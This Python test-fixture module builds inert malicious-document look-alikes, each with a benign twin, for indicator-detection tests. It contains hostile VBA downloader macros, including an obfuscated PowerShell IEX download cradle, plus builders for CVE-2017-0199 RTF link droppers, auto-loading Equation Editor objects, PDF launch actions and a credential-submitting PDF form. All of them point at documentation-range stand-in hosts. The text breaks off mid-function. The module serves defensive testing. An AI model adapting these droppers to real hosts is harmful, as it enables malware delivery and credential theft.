"""
indicator_samples.py - inert look-alikes of malicious documents, scripts, shortcuts and mails,
each with a benign twin, for the end-to-end indicator tests (tests/e2e/test_indicators.py).

Builders return a file's bytes, so they nest (a VBA project in a .docm in a zip in a mail).
Written here from the specifications, nothing copied from real samples: VBA projects
(MS-OVBA: dir stream and module streams with the format's own compression), Windows
shortcuts (MS-SHLLINK), OLE objects (MS-OLEDS: OLE1 Package, linked objects), RTF objects,
PDF files with actions, and OOXML relationship parts.  The "payloads" name calc.exe,
notepad.exe and addresses from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24, example.* domains); nothing here runs or downloads anything.
Python 3 standard library plus fixtures.py (zip, OLE2 compound files, mail).
"""
import base64
import io
import os
import struct
import sys
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import fixtures as F  # noqa: E402

CRLF = "\r\n"


def clsid(text):
    """A class id "{00020906-0000-0000-C000-000000000046}" in its stored byte order."""
    h = text.strip("{}").replace("-", "")
    b = bytes.fromhex(h)
    return b[3::-1] + b[5:3:-1] + b[7:5:-1] + b[8:]


CLSID_PACKAGE = clsid("{0003000C-0000-0000-C000-000000000046}")
CLSID_PBRUSH = clsid("{0003000A-0000-0000-C000-000000000046}")
CLSID_EQUATION = clsid("{0002CE02-0000-0000-C000-000000000046}")
CLSID_OLE2LINK = clsid("{00000300-0000-0000-C000-000000000046}")
CLSID_URLMON = clsid("{79EAC9E0-BAF9-11CE-8C82-00AA004BA90B}")
CLSID_WORD8 = clsid("{00020906-0000-0000-C000-000000000046}")


# ---------------------------------------------------------------- VBA (MS-OVBA)

def _chunk_tokens(chunk):
    """One compressed chunk's token data (MS-OVBA 2.4.1.3.7): flag bytes and tokens, copy
    tokens for repeats of 3 bytes or more found by a greedy search of the chunk so far."""
    out = bytearray()
    pos = 0
    heads = {}  # 3-byte prefix -> positions where it starts
    while pos < len(chunk):
        flag_at = len(out)
        out.append(0)
        for bit in range(8):
            if pos >= len(chunk):
                break
            bits = 4
            while bits < 12 and (1 << bits) < pos:
                bits += 1
            max_len = (0xFFFF >> bits) + 3
            best_len, best_off = 0, 0
            for cand in reversed(heads.get(chunk[pos:pos + 3], [])[-64:]):
                n = 0
                while (n < max_len and pos + n < len(chunk)
                       and chunk[cand + n] == chunk[pos + n]):
                    n += 1
                if n > best_len:
                    best_len, best_off = n, pos - cand
            step = best_len if best_len >= 3 else 1
            if best_len >= 3:
                out[flag_at] |= 1 << bit
                out += struct.pack("<H", ((best_off - 1) << (16 - bits)) | (best_len - 3))
            else:
                out.append(chunk[pos])
            for k in range(pos, pos + step):
                heads.setdefault(chunk[k:k + 3], []).append(k)
            pos += step
    return bytes(out)


def ovba_compress(data):
    """A CompressedContainer: 0x01, then one chunk per 4096 bytes of data; a full chunk that
    does not shrink is stored raw, as the specification allows."""
    out = bytearray(b"\x01")
    for i in range(0, len(data), 4096):
        chunk = data[i:i + 4096]
        tok = _chunk_tokens(chunk)
        if len(chunk) == 4096 and len(tok) >= 4096:
            out += struct.pack("<H", 0x3FFF) + chunk
        else:
            out += struct.pack("<H", 0xB000 | (len(tok) - 1)) + tok
    return bytes(out)


def _rec(rid, data):
    return struct.pack("<HI", rid, len(data)) + data


def _dir_stream(modules, codepage=1252):
    """The decompressed dir stream (MS-OVBA 2.3.4.2): project information, no references,
    then each module's records.  modules: [(name, kind, offset)], kind "bas" or "cls"."""
    d = _rec(0x0001, struct.pack("<I", 1))                 # PROJECTSYSKIND: Win32
    d += _rec(0x0002, struct.pack("<I", 0x409))            # PROJECTLCID
    d += _rec(0x0014, struct.pack("<I", 0x409))            # PROJECTLCIDINVOKE
    d += _rec(0x0003, struct.pack("<H", codepage))         # PROJECTCODEPAGE
    d += _rec(0x0004, b"Project")                          # PROJECTNAME
    d += _rec(0x0005, b"") + _rec(0x0040, b"")             # PROJECTDOCSTRING (+ Unicode)
    d += _rec(0x0006, b"") + _rec(0x003D, b"")             # PROJECTHELPFILEPATH
    d += _rec(0x0007, struct.pack("<I", 0))                # PROJECTHELPCONTEXT
    d += _rec(0x0008, struct.pack("<I", 0))                # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x0009, 4, 1467127224, 6)    # PROJECTVERSION (size says 4)
    d += _rec(0x000C, b"") + _rec(0x003C, b"")             # PROJECTCONSTANTS
    d += _rec(0x000F, struct.pack("<H", len(modules)))     # PROJECTMODULES
    d += _rec(0x0013, struct.pack("<H", 0xFFFF))           # PROJECTCOOKIE
    for name, kind, offset in modules:
        d += _rec(0x0019, name.encode("cp1252"))
        d += _rec(0x0047, name.encode("utf-16-le"))
        d += _rec(0x001A, name.encode("cp1252"))
        d += _rec(0x0032, name.encode("utf-16-le"))
        d += _rec(0x001C, b"") + _rec(0x0048, b"")
        d += _rec(0x0031, struct.pack("<I", offset))
        d += _rec(0x001E, struct.pack("<I", 0))
        d += _rec(0x002C, struct.pack("<H", 0xFFFF))
        d += _rec(0x0021 if kind == "bas" else 0x0022, b"")
        d += _rec(0x002B, b"")
    return d + _rec(0x0010, b"")


def vba_streams(modules, prefix=""):
    """The streams of a VBA project {path: bytes} under prefix ("" for a vbaProject.bin,
    "Macros/" for a .doc).  modules: [(name, kind, source)]: kind "bas" (a procedural
    module) or "cls" (ThisDocument, ThisWorkbook); the source is given without its
    Attribute lines, which the editor writes and which are added here."""
    streams = {}
    listing = []
    wm = b""
    for name, kind, source in modules:
        text = 'Attribute VB_Name = "%s"%s' % (name, CRLF)
        if kind == "cls":
            text += ("Attribute VB_Base = \"1Normal.ThisDocument\"\r\n"
                     "Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"
                     "Attribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\n")
        text += source.replace("\r\n", "\n").replace("\n", CRLF)
        # The module stream starts with the compiled form (PerformanceCache); its bytes do
        # not matter to a source reader, only the offset of the compressed source does.
        pcode = b"\x01\x16\x03\x00" + bytes(range(60)) * 4
        streams[prefix + "VBA/" + name] = pcode + ovba_compress(text.encode("cp1252"))
        listing.append((name, kind, len(pcode)))
        wm += name.encode("cp1252") + b"\0" + name.encode("utf-16-le") + b"\0\0"
    streams[prefix + "VBA/dir"] = ovba_compress(_dir_stream(listing))
    streams[prefix + "VBA/_VBA_PROJECT"] = b"\xCC\x61\xFF\xFF\x00\x00\x00"
    proj = 'ID="{5A1C3F1E-2B7D-4C61-9E3A-0D2E5B6F7A11}"\r\n'
    for name, kind, _ in modules:
        proj += ("Document=%s/&H00000000\r\n" if kind == "cls" else "Module=%s\r\n") % name
    proj += 'Name="Project"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
    streams[prefix + "PROJECT"] = proj.encode("cp1252")
    streams[prefix + "PROJECTwm"] = wm + b"\0\0"
    return streams


def vba_project_bin(modules):
    """word/vbaProject.bin or xl/vbaProject.bin: the project at the compound file's root."""
    return F.cfb_bytes(vba_streams(modules))


def doc_with_vba(modules):
    """A Word 97-2003 .doc whose macros live in the Macros storage, as Word keeps them."""
    streams = {"WordDocument": b"\xEC\xA5\xC1\x00" + b"\0" * 1532,
               "1Table": b"\0" * 512,
               "\x05SummaryInformation": b"\xFE\xFF" + b"\0" * 46}
    streams.update(vba_streams(modules, "Macros/"))
    return F.cfb_bytes(streams, root_clsid=CLSID_WORD8)


REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels_xml(rels):
    """A relationships part; rels: [(id, type, target, external)], type relative to the
    officeDocument namespace unless it is a full URI."""
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="%s">'
           % REL_NS]
    for rid, typ, target, external in rels:
        typ = typ if typ.startswith("http") else R_DOC + typ
        out.append('<Relationship Id="%s" Type="%s" Target="%s"%s/>'
                   % (rid, typ, target, ' TargetMode="External"' if external else ""))
    out.append("</Relationships>")
    return "".join(out).encode()


def docm_bytes(modules):
    """A macro-enabled Word document: the project as word/vbaProject.bin, linked from the
    document's relationships as Word links it."""
    rels = rels_xml([("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                      "vbaProject.bin", False)])
    return F.ooxml_bytes("docm", {"word/_rels/document.xml.rels": rels},
                         vba_project=vba_project_bin(modules))


def xlsm_bytes(modules, cells=("Region", "Q1", "Q2")):
    """A macro-enabled workbook with one worksheet and xl/vbaProject.bin."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.'
          'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType='
          '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
          'ContentType="application/xml"/><Default Extension="bin" ContentType="application/'
          'vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType='
          '"application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://'
          'schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
          'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sales" '
          'sheetId="1" r:id="rId1"/></sheets></workbook>')
    row = "".join('<c r="%s1" t="inlineStr"><is><t>%s</t></is></c>' % (chr(65 + i), v)
                  for i, v in enumerate(cells))
    ws = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://'
          'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">%s</row>'
          '</sheetData></worksheet>' % row)
    return F.zip_bytes([
        ("[Content_Types].xml", ct.encode()),
        ("_rels/.rels", rels_xml([("rId1", "officeDocument", "xl/workbook.xml", False)])),
        ("xl/workbook.xml", wb.encode()),
        ("xl/_rels/workbook.xml.rels", rels_xml([
            ("rId1", "worksheet", "worksheets/sheet1.xml", False),
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
             "vbaProject.bin", False)])),
        ("xl/worksheets/sheet1.xml", ws.encode()),
        ("xl/vbaProject.bin", vba_project_bin(modules))])


# Macro sources.  The hostile ones follow what downloaders do (a trigger, a download, a
# program started hidden); their addresses are documentation ranges and the program calc.
VBA_DOWNLOADER = '''\
Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" _
    (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, _
    ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long

Private Sub Document_Open()
    Dim target As String
    target = Environ("TEMP") & "\\invoice_viewer.exe"
    URLDownloadToFile 0, "http://203.0.113.45/files/invoice_viewer.exe", target, 0, 0
    Set sh = CreateObject("WScript.Shell")
    sh.Run "cmd.exe /c start """" """ & target & """", 0, False
End Sub
'''

# Cross-module: the trigger in ThisDocument, the action in Module1 (the usual layout).
VBA_TRIGGER_ONLY = '''\
Private Sub Document_Open()
    Updater.Refresh
End Sub
'''
VBA_SHELL_MODULE = '''\
Public Sub Refresh()
    Dim cmd As String
    cmd = "powershell -NoProfile -WindowStyle Hidden -Command ""Start-Process calc.exe"""
    Shell cmd, vbHide
End Sub
'''

# Obfuscated: the command is built from Chr() and StrReverse, the URL hides in base64.
_PS_CMD = ("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
           "'http://198.51.100.23/stage2.ps1')\"")
VBA_OBFUSCATED = '''\
Private Sub Workbook_Open()
    Dim a As String, b As String, c As String
    a = Chr(99) & Chr(109) & Chr(100) & Chr(46) & Chr(101) & Chr(120) & Chr(101) & Chr(32) & Chr(47) & Chr(99)
    b = StrReverse("exe.clac trats ")
    c = "%s"
    CreateObject("WScript.Shell").Run a & b & Decode(c), 0
End Sub

Private Function Decode(s As String) As String
    Decode = StrConv(s, vbUnicode)
End Function
''' % base64.b64encode(_PS_CMD.encode()).decode()

# Only indicators of compromise and one obfuscated string: no trigger, no action.
VBA_IOCS = '''\
Public Sub ShowContacts()
    Dim host As String, tool As String, page As String
    host = "192.0.2.77"
    tool = "updater_setup.exe"
    page = "http://downloads.example.net/tools/updater_setup.exe"
    MsgBox StrReverse("tcatnoc ruoy ksA"), vbInformation, host & " " & tool & " " & page
End Sub
'''

# The benign twins: a macro that formats a report, and an auto-run one that only selects
# the first sheet (a trigger alone is no action).
VBA_FORMAT_CELLS = '''\
Public Sub FormatReport()
    With Worksheets("Sales")
        .Range("A1:C1").Font.Bold = True
        .Range("B2:C100").NumberFormat = "#,##0.00"
        .Columns("A:C").AutoFit
        .Range("A1").Select
    End With
    ActiveWindow.FreezePanes = True
End Sub
'''
VBA_OPEN_SELECT = '''\
Private Sub Workbook_Open()
    Worksheets("Sales").Activate
    Range("A1").Select
    Application.StatusBar = "Quarterly sales: use FormatReport to tidy the sheet"
End Sub
'''

VBA_WORD_TABLES = '''\
Public Sub TidyTables()
    Dim t As Table
    For Each t In ActiveDocument.Tables
        t.Style = "Table Grid"
        t.Rows(1).HeadingFormat = True
        t.Range.Font.Size = 10
    Next t
End Sub
'''
VBA_WORD_OPEN_UPDATE = '''\
Private Sub Document_Open()
    ActiveDocument.Fields.Update
    ActiveDocument.TablesOfContents(1).Update
End Sub
'''


# ---------------------------------------------------------------- OOXML parts

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_with_body(body_xml, parts=None, doc_rels=None):
    """A .docx whose document body is body_xml (inside <w:body>), with extra parts and
    relationships of word/document.xml."""
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="%s" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           '<w:body>%s</w:body></w:document>' % (W_NS, body_xml)).encode()
    p = dict(parts or {})
    if doc_rels:
        p["word/_rels/document.xml.rels"] = rels_xml(doc_rels)
    data = F.ooxml_bytes("docx", p)
    # ooxml_bytes writes its own one-paragraph body; swap in ours.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = [(n, doc if n == "word/document.xml" else z.read(n)) for n in z.namelist()]
    return F.zip_bytes(members)


def w_field(instr_runs, result="1"):
    """A complex field: begin, instruction runs (a list, so a keyword can be split over runs
    as Word does after edits), separate, result, end."""
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    for text in instr_runs:
        runs += '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % text
    runs += ('<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>%s</w:t></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r>' % result)
    return "<w:p>%s</w:p>" % runs


def w_para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


# A linked OLE object in the body: Word shows the picture and updates the link from rId7.
OLE_LINK_BODY = ('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
                 'office" Type="Link" ProgID="Word.Document.12" ShapeID="_x0000_i1025" '
                 'DrawAspect="Content" r:id="rId7" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile'
                 '</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r>'
                 '</w:p>')
# An ordinary hyperlink to a web page (relationship rId5).
HYPERLINK_BODY = ('<w:p><w:r><w:t xml:space="preserve">Our terms are at </w:t></w:r><w:hyperlink '
                  'r:id="rId5" w:history="1"><w:r><w:t>www.example.com/terms</w:t></w:r>'
                  '</w:hyperlink></w:p>')

def docx_settings_rels(rels):
    """A .docx whose settings part has relationships (where attachedTemplate lives)."""
    settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings '
                'xmlns:w="%s" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>' % W_NS)
    return docx_with_body(
        w_para("Please review the attached purchase order."),
        {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels_xml(rels)},
        [("rId1", "settings", "settings.xml", False)])


# ---------------------------------------------------------------- OLE objects (MS-OLEDS)

def compobj(user_type, clipboard, progid):
    """A \\x01CompObj stream: the object's user type, clipboard format and ProgID."""
    def lp(s):
        return struct.pack("<I", len(s) + 1) + s.encode("cp1252") + b"\0"
    return (struct.pack("<HHI", 1, 0xFFFE, 0x0A03) + b"\xFF" * 4 + b"\0" * 16 + lp(user_type)
            + lp(clipboard) + lp(progid) + struct.pack("<I", 0x71B239F4))


def package_object(name, data):
    """An embedded OLE1 Package as Office stores it: a compound file of class Package with
    CompObj and the \\x01Ole10Native stream (u32 size, then the native data)."""
    native = F.ole10native_bytes(name, data)
    return F.cfb_bytes({"\x01CompObj": compobj("OLE Package", "", "Package"),
                        "\x01Ole10Native": struct.pack("<I", len(native)) + native},
                       root_clsid=CLSID_PACKAGE)


def bmp_bytes(w=4, h=4):
    """A tiny 24-bit BMP (a grey square)."""
    row = b"\x80" * (w * 3) + b"\0" * ((4 - w * 3 % 4) % 4)
    pixels = row * h
    return (b"BM" + struct.pack("<IHHI", 54 + len(pixels), 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, w, h, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
            + pixels)


def paint_object():
    """An embedded Paint picture (Paint.Picture / PBrush): its Ole10Native holds a BMP,
    not a Package layout."""
    bmp = bmp_bytes()
    return F.cfb_bytes({"\x01CompObj": compobj("Bitmap Image", "PBrush", "Paint.Picture"),
                        "\x01Ole10Native": struct.pack("<I", len(bmp)) + bmp},
                       root_clsid=CLSID_PBRUSH)


def equation_object():
    """An Equation Editor 3.0 object: class {0002CE02-...} and an "Equation Native" stream
    (a header and a MTEF body; this one is a harmless, short formula)."""
    mtef = b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x02\x83x\x00\x00\x00"
    native = struct.pack("<HIHHII", 28, 0x00020000, 0x00C4, len(mtef), 0, 0) + b"\0" * 8 + mtef
    return F.cfb_bytes({"\x01CompObj": compobj("Microsoft Equation 3.0", "DS Equation",
                                                "Equation.3"),
                        "Equation Native": native,
                        "\x01Ole": struct.pack("<IIII", 0x02000001, 0, 0, 0) + b"\0" * 4},
                       root_clsid=CLSID_EQUATION)


def url_moniker(url):
    """A URL moniker as persisted: its class id, a u32 size, the URL in UTF-16 with NUL."""
    u = (url + "\0").encode("utf-16-le")
    return CLSID_URLMON + struct.pack("<I", len(u)) + u


def ole2link_object(url):
    """A linked object (MS-OLEDS 2.3.3 OLEStream with the link flag) whose absolute source
    moniker is a URL: Office fetches the source when the link updates (CVE-2017-0199)."""
    mon = url_moniker(url)
    ole = (struct.pack("<IIII", 0x02000001, 0x00000001, 0x00000001, 0)   # version, linked, auto
           + struct.pack("<I", 0)                                        # no reserved moniker
           + struct.pack("<I", 0)                                        # no relative moniker
           + struct.pack("<I", len(mon)) + mon                           # absolute moniker
           + struct.pack("<I", 0xFFFFFFFF) + b"\0" * 16                  # clsid indicator, clsid
           + struct.pack("<I", 0) + struct.pack("<I", 0) + b"\0" * 24)   # display name, times
    return F.cfb_bytes({"\x01Ole": ole,
                        "\x01CompObj": compobj("Microsoft Word Document", "", "Word.Document.8")},
                       root_clsid=CLSID_OLE2LINK)


def docx_embedding(obj, progid="Package"):
    """A .docx with one embedded OLE object (word/embeddings/oleObject1.bin) shown as a
    picture, as Word writes an object inserted from a file."""
    body = ('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
            ' Type="Embed" ProgID="%s" ShapeID="_x0000_i1025" DrawAspect="Icon" '
            'ObjectID="_1700000001" r:id="rId2"/></w:object></w:r></w:p>' % progid)
    return docx_with_body(w_para("The signed form is attached below.") + body,
                          {"word/embeddings/oleObject1.bin": obj},
                          [("rId2", "oleObject", "embeddings/oleObject1.bin", False)])


# ---------------------------------------------------------------- RTF

def ole1_embedded(class_name, native):
    """An OLE1 EmbeddedObject (MS-OLEDS 2.2.5) as RTF \\objdata carries it."""
    cls = class_name.encode() + b"\0"
    return (struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)


def _hexlines(data, width=128):
    h = data.hex()
    return "\n".join(h[i:i + width] for i in range(0, len(h), width))


RTF_HEAD = "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\froman Times New Roman;}}\n"


def rtf_equation(objupdate=True):
    """RTF with an Equation.3 object that loads without a click (\\objupdate): the delivery
    of the Equation Editor exploits."""
    od = _hexlines(ole1_embedded("Equation.3", equation_object()))
    return (RTF_HEAD + "{\\pard Order confirmation\\par}\n"
            "{\\object\\objemb%s\\objw2180\\objh300{\\*\\objclass Equation.3}"
            "{\\*\\objdata\n%s\n}{\\result {\\pict\\wmetafile8 0100}}}\n}\n"
            % ("\\objupdate" if objupdate else "", od)).encode()


def rtf_obfuscated_link(url):
    """RTF as CVE-2017-0199 droppers write it: a header that is not "{\\rtf1", an OLE2Link
    object whose \\objdata is broken up with junk that readers skip, and \\objupdate."""
    h = ole1_embedded("OLE2Link", ole2link_object(url)).hex()
    broken = "".join(h[i:i + 6] + ("{}" if i % 12 else "\\'d3") for i in range(0, len(h), 6))
    return ("{\\rtvpn\\ansi{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objdata %s}"
            "{\\result {\\pict\\wmetafile8 0100}}}}\n" % broken).encode()


def rtf_picture():
    """The twin: an ordinary RTF letter with an inline PNG picture (\\pict\\pngblip)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\x00\x80\x80\x80")) + chunk(b"IEND", b""))
    return (RTF_HEAD + "{\\pard\\f0 Dear customer,\\par Our new logo:\\par}\n"
            "{\\pard{\\pict\\pngblip\\picw1\\pich1\\picwgoal720\\pichgoal720\n%s\n}\\par}\n"
            "{\\pard Best regards\\par}\n}\n" % _hexlines(png)).encode()


def rtf_field(instr, result):
    """RTF with one field: {\\field{\\*\\fldinst instr}{\\fldrslt result}}."""
    return (RTF_HEAD + "{\\pard See the figures below.\\par}\n"
            "{\\pard{\\field{\\*\\fldinst {%s}}{\\fldrslt {%s}}}\\par}\n}\n"
            % (instr, result)).encode()


# ---------------------------------------------------------------- PDF

def pdf_objects(objs, root=1):
    """A PDF with a correct cross-reference table from objs: {number: body bytes}, where a
    body given as (dict bytes, stream data) becomes a stream object."""
    out = bytearray(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n")
    offsets = {}
    for n in sorted(objs):
        body = objs[n]
        if isinstance(body, tuple):
            d, data = body
            assert d.endswith(b">>")
            body = (d[:-2].rstrip() + b" /Length %d >>\nstream\n" % len(data) + data
                    + b"\nendstream")
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    size = max(objs) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[n]) if n in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def _page(extra=b"", text=b"Quarterly report"):
    content = b"BT /F1 14 Tf 72 720 Td (" + text + b") Tj ET\n"
    return {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >>" + extra + b" >>",
            4: (b"<< >>", content),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}


def pdf_openaction_js(js, hex_name=False, embedded=None):
    """A PDF that runs js when it opens (/OpenAction); with hex_name the action's key is
    written /J#61vaScript-style (#xx escapes); embedded=(name, data) attaches a file."""
    objs = _page()
    s = b"/S /J#61vaScript /J#53" if hex_name else b"/S /JavaScript /JS"
    objs[6] = b"<< /Type /Action " + s + b" (" + js + b") >>"
    names = b""
    if embedded:
        name, data = embedded
        z = zlib.compress(data)
        objs[7] = (b"<< /Type /EmbeddedFile /Filter /FlateDecode /Params << /Size %d >> >>"
                   % len(data), z)
        objs[8] = (b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>"
                   % (name.encode(), name.encode()))
        names = b" /Names << /EmbeddedFiles << /Names [(%s) 8 0 R] >> >>" % name.encode()
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R" + names + b" >>"
    return pdf_objects(objs)


def pdf_launch(program, params):
    """A PDF whose open action starts a program (/Launch with a Windows launch dict)."""
    objs = _page()
    objs[6] = (b"<< /Type /Action /S /Launch /Win << /F (%s) /P (%s) /D (C:\\\\Windows) "
               b"/O (open) >> >>" % (program.encode(), params.encode()))
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    return pdf_objects(objs)


def pdf_submitform(url, password_field=True):
    """A one-page "sign in to view the document" form whose button submits to url."""
    objs = _page(b" /Annots [7 0 R 8 0 R]", b"Sign in to view the document")
    objs[6] = b"<< /Fields [7 0 R 8 0 R] /DA (/Helv 0 Tf 0 g) >>"
    ff = b" /Ff 8192" if password_field else b""
    objs[7] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (password)%s /Rect [72 600 300 620] "
               b"/P 3 0 R >>" % ff)
    objs[8] = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (signin) "
               b"/Rect [72 560 160 585] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (%s) >> "
               b"/Flags 4 >> >>" % url.encode())
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>"
    return pdf_objects(objs)


def pdf_link_outline(url):
    """The twin: a report with a link annotation to a web page and a bookmark (outline)."""
    objs = _page(b" /Annots [6 0 R]")
    objs[6] = (b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
               b"/A << /S /URI /URI (%s) >> >>" % url.encode())
    objs[7] = b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>"
    objs[8] = b"<< /Title (Summary) /Parent 7 0 R /Dest [3 0 R /XYZ 0 792 0] >>"
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R /PageMode /UseOutlines >>"
    return pdf_objects(objs)


def pdf_number_form():
    """The twin: an invoice form whose amount field formats its number with Acrobat's own
    AFNumber_Format in a field /AA /F action (what every fillable form does)."""
    objs = _page(b" /Annots [7 0 R]", b"Amount due")
    objs[6] = b"<< /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) >>"
    objs[7] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 600 300 620] "
               b"/P 3 0 R /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", "
               b"true\\);) >> /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", "
               b"true\\);) >> >> >>")
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>"
    return pdf_objects(objs)


# ---------------------------------------------------------------- Windows shortcuts

LNK_CLSID = clsid("{00021401-0000-0000-C000-000000000046}")
# LinkFlags (MS-SHLLINK 2.1.1)
HAS_LINK_INFO, HAS_NAME, HAS_RELPATH, HAS_WORKDIR = 0x2, 0x4, 0x8, 0x10
HAS_ARGS, HAS_ICON, IS_UNICODE, HAS_EXP_STRING = 0x20, 0x40, 0x80, 0x200
SW_SHOWNORMAL, SW_SHOWMINNOACTIVE = 1, 7


def _lnk_string(s):
    return struct.pack("<H", len(s.encode("utf-16-le")) // 2) + s.encode("utf-16-le")


def _link_info(path):
    """LinkInfo (MS-SHLLINK 2.3) with a VolumeID and the local base path in both the ANSI and
    the Unicode form (header size 0x24)."""
    volume = struct.pack("<IIII", 16 + 8, 3, 0x1234ABCD, 16) + b"SYSTEM\0\0"
    ansi = path.encode("cp1252") + b"\0"
    uni = path.encode("utf-16-le") + b"\0\0"
    hsize = 0x24
    vol_off = hsize
    base_off = vol_off + len(volume)
    suffix_off = base_off + len(ansi)
    base_u_off = suffix_off + 1
    suffix_u_off = base_u_off + len(uni)
    size = suffix_u_off + 2
    return (struct.pack("<IIIIIIIII", size, hsize, 1, vol_off, base_off, 0, suffix_off,
                        base_u_off, suffix_u_off)
            + volume + ansi + b"\0" + uni + b"\0\0")


def _env_block(target):
    """EnvironmentVariableDataBlock (2.5.4): a target like %windir%\\... in ANSI and Unicode."""
    a = target.encode("cp1252")[:259].ljust(260, b"\0")
    u = target.encode("utf-16-le")[:518].ljust(520, b"\0")
    return struct.pack("<II", 0x314, 0xA0000001) + a + u


def lnk_bytes(target, args="", workdir=None, icon=None, name=None, show=SW_SHOWNORMAL,
              env_target=None):
    """A Shell Link (MS-SHLLINK): ShellLinkHeader, LinkInfo with the target's local path,
    StringData (Unicode) and, when env_target is given, an environment-variable block.
    No LinkTargetIDList: the shell resolves the target from LinkInfo."""
    flags = HAS_LINK_INFO | IS_UNICODE
    strings = b""
    for bit, val in ((HAS_NAME, name), (HAS_WORKDIR, workdir), (HAS_ARGS, args or None),
                     (HAS_ICON, icon)):
        if val is not None:
            flags |= bit
            strings += _lnk_string(val)
    if env_target:
        flags |= HAS_EXP_STRING
    ft = 0x01DA9B8A6C3B2000  # 2024-05-01, as FILETIME
    header = (struct.pack("<I", 0x4C) + LNK_CLSID + struct.pack("<II", flags, 0x20)
